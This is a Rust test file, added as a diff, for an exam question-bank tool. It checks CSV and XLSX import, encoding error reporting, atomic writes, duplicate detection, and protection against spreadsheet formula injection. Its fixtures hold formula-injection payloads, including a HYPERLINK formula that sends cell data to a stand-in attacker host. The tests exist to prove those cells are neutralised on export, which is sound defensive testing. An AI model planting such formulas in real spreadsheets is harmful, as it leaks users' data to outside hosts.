@@ -1,0 +1,372 @@
+//! `bank import` / `bank export` / `bank check` on what breaks at scale or in Excel: broken bytes
+//! named at their row and column, cells Excel would run as formulas, an import that writes its
+//! bank in one piece or not at all, and near-duplicates found across a large bank.
+
+use super::*;
+use std::fs;
+
+/// Imports `args` into `out`; returns (exit code, stderr).
+fn import(args: &[&str], out: &Path) -> (i32, String) {
+    let o = examforge()
+        .args(["bank", "import"])
+        .args(args)
+        .arg("-o")
+        .arg(out)
+        .output()
+        .unwrap();
+    (
+        o.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&o.stderr).into_owned(),
+    )
+}
+
+/// The files in `dir`, sorted.
+fn listing(dir: &Path) -> Vec<String> {
+    let mut v: Vec<String> = fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn a_broken_byte_in_a_gbk_csv_is_named_at_its_row_and_column_and_nothing_is_written() {
+    let dir = tmp();
+    // The trainer's GBK sample, with a stray 0xFF after the fourth character of row 3's stem.
+    let sample = fs::read(root().join("tests/fixtures/import/B1b_tiku_wide_gbk.csv")).unwrap();
+    let text = encoding_rs::GBK.decode(&sample).0.into_owned();
+    let row3 = text.lines().nth(2).unwrap().to_string();
+    let at = row3
+        .char_indices()
+        .nth(4 + "多选题,".chars().count())
+        .unwrap()
+        .0;
+    let broken_row = format!("{}\u{0}{}", &row3[..at], &row3[at..]);
+    let broken = text.replacen(&row3, &broken_row, 1);
+    let (gbk, _, lossy) = encoding_rs::GBK.encode(&broken);
+    assert!(!lossy);
+    let bytes: Vec<u8> = gbk.iter().map(|&b| if b == 0 { 0xFF } else { b }).collect();
+    let csv = dir.path().join("题库.csv");
+    fs::write(&csv, bytes).unwrap();
+    let out = dir.path().join("bank.toml");
+    let (code, err) = import(&[csv.to_str().unwrap()], &out);
+    assert_ne!(code, 0, "{err}");
+    assert!(
+        err.contains(&format!(
+            "{}:3:9: error: byte 0xFF is not valid GB18030",
+            csv.display()
+        )),
+        "{err}"
+    );
+    assert!(!err.contains('\u{FFFD}'), "{err}");
+    assert_eq!(
+        listing(dir.path()),
+        ["题库.csv"],
+        "nothing written, nothing left"
+    );
+}
+
+#[test]
+fn one_bad_byte_in_a_utf8_csv_is_named_not_read_as_gbk_mojibake() {
+    let dir = tmp();
+    let mut bytes = "题型,题干,选项A,选项B,正确答案\n单选题,排污单位应当如实申报吗？,是,否,A\n单选题,建设单位应当"
+        .as_bytes()
+        .to_vec();
+    bytes.push(0xB5);
+    bytes.extend_from_slice(
+        "编制环境影响报告书吗？,是,否,A\n单选题,重点排污单位应当公开信息吗？,是,否,A\n".as_bytes(),
+    );
+    let csv = dir.path().join("bank.csv");
+    fs::write(&csv, &bytes).unwrap();
+    let out = dir.path().join("bank.toml");
+    let (code, err) = import(&[csv.to_str().unwrap()], &out);
+    assert_ne!(code, 0, "{err}");
+    assert!(
+        err.contains(&format!(
+            "{}:3:1: error: field 2 is not valid UTF-8",
+            csv.display()
+        )),
+        "{err}"
+    );
+    assert!(!out.exists());
+    // The rest of the file was UTF-8 all along: fixed, it imports as written.
+    bytes.retain(|&b| b != 0xB5);
+    fs::write(&csv, &bytes).unwrap();
+    let (code, err) = import(&[csv.to_str().unwrap()], &out);
+    assert_eq!(code, 0, "{err}");
+    assert!(fs::read_to_string(&out)
+        .unwrap()
+        .contains("建设单位应当编制环境影响报告书吗？"));
+}
+
+const FORMULAS: &str = r#"[bank]
+id = "f"
+title = "formulas"
+language = "zh"
+
+[[question]]
+id = "f1"
+kind = "single"
+stem = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看解析\")"
+options = ["-1+1", "@SUM(A1:A9)", "+86 10 1234", "'=already quoted"]
+answer = "A"
+explanation = "-3"
+source = "《中华人民共和国环境保护法》第四十二条"
+
+[[question]]
+id = "f2"
+kind = "fill"
+stem = "排放标准值为____。"
+answer = [["=2+3", "-5"]]
+source = "《中华人民共和国环境保护法》第十六条"
+"#;
+
+#[test]
+fn csv_export_keeps_excel_from_running_formulas_and_imports_back_exactly() {
+    let dir = tmp();
+    let bank = dir.path().join("f.toml");
+    fs::write(&bank, FORMULAS).unwrap();
+    let csv = dir.path().join("f.csv");
+    examforge()
+        .args(["bank", "export"])
+        .arg(&bank)
+        .args(["--to", "csv", "-o"])
+        .arg(&csv)
+        .assert()
+        .success();
+    let text = fs::read_to_string(&csv).unwrap();
+    // Every cell as Excel reads it: none starts a formula; a number stays a number.
+    let mut rdr = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = Vec::new();
+    for rec in rdr.records() {
+        cells.extend(rec.unwrap().iter().map(str::to_string));
+    }
+    for c in &cells {
+        let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
+            || (c.starts_with('-') && c.parse::<f64>().is_err() && c.len() > 1);
+        assert!(!risky, "Excel would run {c:?}");
+    }
+    assert!(
+        cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看解析\")".to_string())
+    );
+    assert!(cells.contains(&"'-1+1".to_string()));
+    assert!(cells.contains(&"''=already quoted".to_string()));
+    assert!(cells.contains(&"-3".to_string()));
+    // Imported again: the same bank, field for field.
+    let back = dir.path().join("back.toml");
+    let (code, err) = import(
+        &[csv.to_str().unwrap(), "--id", "f", "--title", "formulas"],
+        &back,
+    );
+    assert_eq!(code, 0, "{err}");
+    let want: toml::Value = toml::from_str(FORMULAS).unwrap();
+    let got: toml::Value = toml::from_str(&fs::read_to_string(&back).unwrap()).unwrap();
+    for (w, g) in want["question"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .zip(got["question"].as_array().unwrap())
+    {
+        for key in ["stem", "options", "answer", "explanation"] {
+            assert_eq!(w.get(key), g.get(key), "{key}");
+        }
+    }
+}
+
+#[test]
+fn xlsx_export_stores_formula_text_as_text() {
+    let dir = tmp();
+    let bank = dir.path().join("f.toml");
+    fs::write(&bank, FORMULAS).unwrap();
+    let xlsx = dir.path().join("f.xlsx");
+    examforge()
+        .args(["bank", "export"])
+        .arg(&bank)
+        .args(["--to", "xlsx", "-o"])
+        .arg(&xlsx)
+        .assert()
+        .success();
+    // A formula cell would be stored as <f>…</f>; text is a string cell.
+    let mut zip = std::process::Command::new("unzip");
+    let sheet = zip
+        .arg("-p")
+        .arg(&xlsx)
+        .arg("xl/worksheets/sheet1.xml")
+        .output()
+        .unwrap();
+    let sheet = String::from_utf8_lossy(&sheet.stdout);
+    assert!(sheet.contains("<c "), "{sheet}");
+    assert!(!sheet.contains("<f>"), "{sheet}");
+    let back = dir.path().join("back.toml");
+    let (code, err) = import(&[xlsx.to_str().unwrap(), "--id", "f"], &back);
+    assert_eq!(code, 0, "{err}");
+    let got: toml::Value = toml::from_str(&fs::read_to_string(&back).unwrap()).unwrap();
+    let want: toml::Value = toml::from_str(FORMULAS).unwrap();
+    for key in ["stem", "options", "answer"] {
+        assert_eq!(
+            got["question"][0].get(key),
+            want["question"][0].get(key),
+            "{key}"
+        );
+    }
+}
+
+#[test]
+fn a_name_that_is_a_formula_reaches_results_and_ranking_as_text() {
+    let d = tmp();
+    examforge()
+        .arg("draw")
+        .arg(root().join("tests/fixtures/report/blueprint.toml"))
+        .args(["--seed", "5", "-o"])
+        .arg(d.path())
+        .assert()
+        .success();
+    let m: serde_json::Value =
+        serde_json::from_slice(&fs::read(d.path().join("exam.json")).unwrap()).unwrap();
+    let code = m["papers"][0]["code"].as_str().unwrap();
+    let n: usize = m["papers"][0]["sections"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["items"].as_array().unwrap().len())
+        .sum();
+    let numbers: String = (1..=n).map(|i| format!(",{i}")).collect();
+    let blanks = ",".repeat(n);
+    let evil = "=HYPERLINK(\"http://evil.example\",\"成绩\")";
+    fs::write(
+        d.path().join("scan.csv"),
+        format!(
+            "candidate,name,team,paper{numbers}\n2601,\"{}\",@团队,{code}{blanks}\n2602,李四,-甲,{code}{blanks}\n",
+            evil.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    examforge()
+        .arg("grade")
+        .arg(d.path().join("exam.json"))
+        .arg(d.path().join("scan.csv"))
+        .arg("-o")
+        .arg(d.path().join("res"))
+        .assert()
+        .code(predicates::ord::le(1));
+    examforge()
+        .arg("report")
+        .arg(d.path().join("res"))
+        .args(["--format", "csv", "-o"])
+        .arg(d.path().join("rep"))
+        .assert()
+        .success();
+    for file in ["res/results.csv", "rep/ranking.csv"] {
+        let text = fs::read_to_string(d.path().join(file)).unwrap();
+        assert!(text.contains("'=HYPERLINK("), "{file}: {text}");
+        assert!(
+            !text.contains("''=HYPERLINK("),
+            "{file}: guarded twice: {text}"
+        );
+        assert!(
+            text.contains(",'@团队,") && text.contains(",'-甲,"),
+            "{file}: {text}"
+        );
+    }
+}
+
+#[test]
+fn a_large_bank_imports_in_one_piece_and_its_near_duplicates_are_found() {
+    let dir = tmp();
+    let csv = dir.path().join("big.csv");
+    let mut text = String::from("编号,题型,题干,选项A,选项B,正确答案,出处\n");
+    // Stems made of four words picked by the digits of the row: any two differ in a word or more.
+    let words = [
+        [
+            "排污单位",
+            "建设单位",
+            "运输单位",
+            "医疗机构",
+            "监测机构",
+            "园区管委会",
+            "施工单位",
+            "物业企业",
+            "养殖场",
+            "加油站",
+        ],
+        [
+            "擅自停运",
+            "超标排放",
+            "未批先建",
+            "逃避监管",
+            "篡改数据",
+            "私设暗管",
+            "未经验收",
+            "拒绝检查",
+            "未按时申报",
+            "伪造记录",
+        ],
+        [
+            "废水",
+            "废气",
+            "固体废物",
+            "危险废物",
+            "噪声",
+            "放射性物质",
+            "恶臭气体",
+            "扬尘",
+            "油烟",
+            "医疗废物",
+        ],
+        [
+            "一次",
+            "两次",
+            "多次",
+            "连续三日",
+            "夜间",
+            "节假日",
+            "汛期",
+            "重污染天气期间",
+            "试生产期间",
+            "停产整治期间",
+        ],
+    ];
+    let stem = |i: usize| {
+        let d = [i / 1000 % 10, i / 100 % 10, i / 10 % 10, i % 10];
+        format!(
+            "{}{}{}{}，依照有关法律的规定，应当如何处理？",
+            words[0][d[0]], words[1][d[1]], words[2][d[2]], words[3][d[3]]
+        )
+    };
+    for i in 0..3000 {
+        // The last row repeats row 7 with one word changed: a near-duplicate.
+        let s = if i == 2999 {
+            stem(7).replace("处理", "处置")
+        } else {
+            stem(i)
+        };
+        text.push_str(&format!(
+            "q{i},单选题,{s},十日,三十日,A,《中华人民共和国环境保护法》第四十五条\n"
+        ));
+    }
+    fs::write(&csv, text).unwrap();
+    let out = dir.path().join("big.toml");
+    let (code, err) = import(&[csv.to_str().unwrap(), "--id", "big"], &out);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("wrote 3000 question(s)"), "{err}");
+    assert_eq!(
+        listing(dir.path()),
+        ["big.csv", "big.toml"],
+        "no staging file left"
+    );
+    let o = examforge()
+        .args(["bank", "check"])
+        .arg(&out)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(o.status.success(), "{err}");
+    assert!(
+        err.contains("`q2999` looks like a near-duplicate of `q7`"),
+        "{err}"
+    );
+    assert_eq!(err.matches("near-duplicate").count(), 1, "{err}");
+}
